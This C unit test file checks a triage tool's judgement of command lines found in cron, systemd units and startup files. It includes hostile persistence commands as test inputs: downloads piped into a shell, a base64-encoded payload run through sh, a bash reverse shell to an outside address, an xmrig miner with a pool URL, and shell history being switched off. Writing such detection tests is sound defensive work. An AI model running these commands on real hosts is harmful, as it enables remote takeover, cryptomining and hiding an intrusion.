// SPDX-License-Identifier: GPL-2.0-only
/* Unit tests: triage__judge_command (user/triage/triage_judge.c), the one
 * judgement of every command line triage finds in cron, systemd units,
 * rc.local and startup files: hostile lines flagged with their reasons,
 * the ordinary lines of a Debian host left alone. The shipped rules/ are
 * loaded so miner names come from the daemon's lists. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "rules/rules.h"
#include "triage/triage.h"

struct judge_case {
	const char *cmd;
	int min_sev; /* 0: must not be flagged */
	const char *why; /* a reason that must be given, or NULL */
};

static void test_judge(void **state)
{
	static const struct judge_case cases[] = {
	    /* The incident's entries. */
	    {"/root/.bashtemp/run.sh >/dev/null 2>&1", 80, "hidden directory"},
	    {"cd /root/.bashtemp && ./run.sh", 80, "hidden directory"},
	    {"curl -fsSL http://203.0.113.7/x.sh | sh", 85,
	     "download piped into a shell"},
	    {"wget -q -O- http://x/y | sudo bash", 85, "download piped"},
	    {"cd /tmp; wget http://x/m -O m; chmod +x m; ./m", 80,
	     "download made executable"},
	    {"echo ZWNobyBoaQ== | base64 -d | sh", 80, "encoded payload"},
	    {"bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", 85,
	     "reverse shell"},
	    {"nohup /tmp/kworker >/dev/null &", 70,
	     "runs from a temporary directory"},
	    {"/dev/shm/x -o pool:3333", 70, "runs from a temporary directory"},
	    {"/usr/local/bin/xmrig -o stratum+tcp://p.example:3333", 90,
	     "mining pool URL"},
	    {"export HISTFILE=/dev/null", 70, "shell history switched off"},
	    /* What a clean Debian host has. */
	    {"test -x /usr/sbin/anacron || ( cd / && run-parts --report "
	     "/etc/cron.daily )",
	     0, NULL},
	    {"export PATH=\"/root/.cargo/bin:$PATH\"", 0, NULL},
	    {"DIR=\"/tmp/$1\"", 0, NULL},
	    {"fn=\"$(mktemp /tmp/testwriteable.XXXXXXXXXX)\" || return 1", 0,
	     NULL},
	    {"[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean", 0,
	     NULL},
	    {"/usr/bin/git -C /srv/app/.git/.. pull", 0, NULL},
	    {"/sbin/e2scrub_all -A -r", 0, NULL},
	};
	struct triage_opts o = {0};
	struct triage t = {.o = &o};
	const char *paths[] = {"rules"};
	struct rules *rs = NULL;
	char err[512], why[512];
	size_t i;

	if (rules__load(paths, 1, &rs, err, sizeof(err)) == 0)
		t.rs = rs;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int sev = triage__judge_command(&t, cases[i].cmd, why,
						sizeof(why));

		if (!cases[i].min_sev) {
			if (sev)
				fail_msg("flagged (%d: %s): %s", sev, why,
					 cases[i].cmd);
			continue;
		}
		if (sev < cases[i].min_sev || !strstr(why, cases[i].why))
			fail_msg("%s: severity %d, why '%s'", cases[i].cmd,
				 sev, why);
	}
	rules__free(rs);
}

/* The daemon's rules name the miner: their ids come with the reasons. */
static void test_judge_by_rules(void **state)
{
	struct triage_opts o = {0};
	struct triage t = {.o = &o};
	const char *paths[] = {"rules"};
	struct rules *rs = NULL;
	char err[512], why[512];

	if (rules__load(paths, 1, &rs, err, sizeof(err)))
		skip(); /* run from the repository root (make unit) */
	t.rs = rs;
	assert_true(triage__judge_command(&t, "/opt/x/xmrig --donate-level 1",
					  why, sizeof(why)) >= 85);
	assert_non_null(strstr(why, "MW-MINER-"));
	rules__free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_judge),
	    cmocka_unit_test(test_judge_by_rules),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
